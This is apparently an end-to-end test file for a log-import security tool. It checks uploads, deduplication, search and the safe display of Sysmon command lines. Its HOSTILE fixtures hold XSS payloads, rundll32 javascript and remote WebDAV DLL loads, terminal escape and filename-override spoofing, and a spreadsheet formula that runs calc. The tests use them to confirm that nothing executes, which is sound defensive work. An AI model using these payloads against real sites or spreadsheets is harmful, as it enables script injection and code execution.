import { parse } from 'csv-parse/sync'
import { figure, transfer, upload, uploadAsResponder } from './imports-page'
import { ndjson, sysmonCreation, unique } from './logs'
import { rows } from './page'
import { expect, open, test } from './test'
import { watch } from './watch'

const IP = '203.0.113.77'
const GUID = '6bf52a52-394a-11d3-b153-00c04f79faa6'
const OVERRIDE = '\u202e'
const ESCAPE = '\u001b'

/** Command lines as an attacker would write them to hurt whoever reads them. */
const HOSTILE = {
  script: `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication";<script>alert(1)</script><img src=x onerror=alert(2)>`,
  quotes: `rundll32.exe "C:\\a "b" 'c'.dll",#1 --x='"><svg/onload=alert(3)>' \${alert(4)} {{7*7}}`,
  escapes: `rundll32.exe ${ESCAPE}[31mred${ESCAPE}[0m${ESCAPE}]0;owned\u0007 \u0000 \r\n second line`,
  override: `rundll32.exe C:\\Users\\Public\\invoice${OVERRIDE}fdp.dll,Start`,
  formula: `=cmd|'/C calc'!A0`,
  long: `rundll32.exe C:\\long.dll,${'A'.repeat(32_000)}END`,
  many: `rundll32.exe C:\\many.dll,Run${' x'.repeat(10_000)}`,
  address: `rundll32.exe \\\\${IP}@SSL\\DavWWWRoot\\x.dll,Run`,
  guid: `rundll32.exe shell32.dll,SHCreateLocalServerRunDll {${GUID}}`,
}

test('an uploaded file is followed to its end, and what is sent again is stored once', async ({
  signInAs,
}) => {
  const page = await signInAs('responder')
  const host = unique('ws')
  const lines = [1, 2, 3].map((number) => `rundll32.exe C:\\Tools\\${host}.dll,Entry${number}`)
  const file = {
    name: `${host}.ndjson`,
    mimeType: 'application/x-ndjson',
    buffer: ndjson(lines.map((commandLine) => sysmonCreation({ host, commandLine }))),
  }
  await open(page, '/imports')
  await upload(page, file)
  await expect(transfer(page, file.name)).toContainText('3 records · 3 new executions')
  await expect(transfer(page, file.name)).toContainText('Done')
  await expect(page.getByRole('status').filter({ hasText: 'files done' })).toHaveCount(0)
  await expect(page.getByText('1 of 1 file done')).toBeVisible()

  await open(page, '/imports')
  await upload(page, file)
  await expect(transfer(page, file.name)).toContainText('3 records · 0 new executions · 3 duplicate')

  await transfer(page, file.name).getByRole('link').click()
  await expect(page.getByRole('heading', { name: file.name, level: 1 })).toBeVisible()
  await expect(figure(page, 'Duplicate executions')).toHaveText('3')
  await expect(figure(page, 'Rejected records')).toHaveText('0')
  await expect(page.getByRole('cell', { name: '3 process creations' })).toBeVisible()

  await open(page, `/executions?host=${host}&days=all`)
  await expect(rows(page)).toHaveCount(3)
})

test('an import names the hosts that it tells of, and leads to what it told of them', async ({
  signInAs,
}) => {
  const page = await signInAs('responder')
  const host = unique('ws')
  await uploadAsResponder(
    page,
    host,
    [1, 2].map((number) => `rundll32.exe C:\\Tools\\${host}.dll,Entry${number}`),
  )
  await transfer(page, host).getByRole('link').click()
  await expect(page.getByText(/^1 host, (on|from) 20/)).toBeVisible()
  await page
    .getByRole('navigation', { name: 'What became of it' })
    .getByRole('link', { name: 'Hosts' })
    .click()
  await expect(page).toHaveURL(/\/hosts$/)
  const crumbs = page.getByRole('navigation', { name: 'Breadcrumb' })
  await expect(crumbs.getByRole('link', { name: `${host}.ndjson` })).toBeVisible()
  await expect(crumbs.locator('[aria-current="page"]')).toHaveText('Hosts')
  await expect(rows(page)).toHaveCount(1)
  await expect(rows(page)).toContainText(host)
  await rows(page).getByRole('link', { name: '2', exact: true }).click()
  await expect(page.getByRole('heading', { name: 'Executions', level: 1 })).toBeVisible()
  await expect(rows(page)).toHaveCount(2)
})

test('a file that cannot be read says why, and what was read before stays', async ({ signInAs }) => {
  const page = await signInAs('admin')
  const name = unique('notes')
  const host = unique('srv')
  const good = JSON.stringify(sysmonCreation({ host, commandLine: 'rundll32.exe a.dll,b' }))
  await open(page, '/imports')
  await upload(page, { name: `${name}.evtx`, mimeType: '', buffer: Buffer.from('To do: buy milk.\n') })
  await expect(transfer(page, `${name}.evtx`)).toContainText('Rejected')
  await expect(transfer(page, `${name}.evtx`)).toContainText('a text that is neither JSON, XML nor CSV')

  await upload(page, { name: `${name}.empty.json`, mimeType: '', buffer: Buffer.alloc(0) })
  await expect(transfer(page, `${name}.empty.json`)).toContainText(`${name}.empty.json is empty`)

  const torn = {
    name: `${name}.ndjson`,
    mimeType: '',
    buffer: Buffer.from(`${good}\n{"event_id": 1, torn\n`),
  }
  await upload(page, torn)
  await expect(transfer(page, torn.name)).toContainText('1 new execution · 1 rejected')
  await transfer(page, torn.name).getByRole('link').click()
  await page.getByRole('link', { name: /^Rejected records/ }).click()
  await expect(rows(page)).toHaveCount(1)
  await expect(rows(page).first()).toContainText(torn.name)
  await expect(rows(page).first().getByRole('cell').nth(1)).toHaveText('2')
  await expect(rows(page).first().getByRole('cell').last()).not.toBeEmpty()
})

test('hostile command lines are shown as text on every page, and nothing of them runs', async ({
  signInAs,
}) => {
  const page = await signInAs('responder')
  const problems = watch(page)
  const host = unique('hostile')
  const lines = Object.values(HOSTILE)
  await open(page, '/imports')
  await upload(page, {
    name: `<b>${host}</b>'".ndjson`,
    mimeType: '',
    buffer: ndjson(lines.map((commandLine) => sysmonCreation({ host, commandLine }))),
  })
  const words = `${lines.length} records · ${lines.length} new executions`
  await expect(transfer(page, host)).toContainText(words)

  await open(page, `/executions?host=${host}&days=all`)
  await expect(rows(page)).toHaveCount(lines.length)
  await expect(page).toHaveTitle('Executions · Cordon')
  await expect(rows(page).filter({ hasText: '<script>alert(1)</script>' })).toHaveCount(1)
  await expect(rows(page).filter({ hasText: '[U+001B]' }).getByText('[U+0007]')).toHaveCount(1)
  await expect(rows(page).filter({ hasText: 'invoice[U+202E]fdp.dll' })).toHaveCount(1)

  const shown: string[] = []
  for (let index = 0; index < lines.length; index++) {
    await rows(page).nth(index).getByRole('link').first().click()
    const panel = page.getByRole('complementary')
    await expect(panel.getByRole('heading', { name: 'Judgement' })).toBeVisible()
    shown.push((await panel.locator('code').first().innerText()).replaceAll(/\s/g, ''))
    await panel.getByText('Original record').click()
    const raw = await panel.getByRole('region', { name: 'Original record' }).innerText()
    expect(raw).toContain(host)
    expect(raw).not.toContain(OVERRIDE)
    expect(raw).not.toContain(ESCAPE)
    await page.keyboard.press('Escape')
    await expect(panel).toHaveCount(0)
  }
  expect(shown.sort()).toEqual(lines.map((line) => withGlyphs(line).replaceAll(/\s/g, '')).sort())
  for (const path of [`/hosts?q=${host}`, '/binaries/rundll32.exe', '/deviations', '/imports']) {
    await open(page, path)
    await expect(page).toHaveTitle(/ · Cordon$/)
    // nothing of the text became an element
    await expect(page.locator('main :is(script, img, svg[onload], b)')).toHaveCount(0)
  }
  expect(problems).toEqual([])
})

test('executions are found by an address and by a GUID within a command line', async ({ signInAs }) => {
  const page = await signInAs('viewer')
  const host = unique('found')
  await uploadAsResponder(await signInAs('responder'), host, [HOSTILE.address, HOSTILE.guid])
  for (const text of [IP, GUID, GUID.toUpperCase(), `{${GUID}}`]) {
    await open(page, `/executions?host=${host}&days=all`)
    const search = page.getByRole('searchbox', { name: 'Command line, hash or process GUID' })
    await search.fill(text)
    await search.press('Enter')
    await expect(rows(page)).toHaveCount(1)
    await expect(rows(page).first()).toContainText(text === IP ? IP : GUID)
  }
})

test('a spreadsheet that opens the CSV of executions runs nothing of them', async ({ signInAs }) => {
  const page = await signInAs('responder')
  const host = unique('csv')
  await uploadAsResponder(page, host, [
    HOSTILE.formula,
    HOSTILE.quotes,
    HOSTILE.escapes.replace('\u0000', ''),
  ])
  await open(page, `/executions?host=${host}&days=all`)
  const download = page.waitForEvent('download')
  await page.getByRole('link', { name: 'CSV', exact: true }).click()
  const answer = await page.request.get((await download).url())
  const records: Record<string, string>[] = parse(await answer.body(), { columns: true, bom: true })
  expect(records.map((record) => record['host'])).toEqual([host, host, host])
  for (const { deviation_id: id, ...others } of records) {
    for (const value of Object.values(others)) expect(value).not.toMatch(/^[=+@\t\r-]/)
    // a number, which may be below zero
    expect(id).toMatch(/^(?:-?\d+)?$/)
  }
  const lines = records.map((record) => record['command_line'])
  expect(lines).toContain(`'${HOSTILE.formula}`)
  expect(lines).toContain(HOSTILE.quotes)
})

test('a viewer is offered no upload', async ({ signInAs }) => {
  const page = await signInAs('viewer')
  await open(page, '/imports')
  await expect(page.getByRole('region', { name: 'Upload' })).toHaveCount(0)
})

/** A command line as the pages write it; PostgreSQL keeps no NUL, so that one was replaced before. */
function withGlyphs(line: string): string {
  return line.replaceAll('\u0000', '␀').replaceAll(/[\p{Cc}\p{Cf}]/gu, (character) => {
    const code = character.codePointAt(0) ?? 0
    return `[U+${code.toString(16).toUpperCase().padStart(4, '0')}]`
  })
}
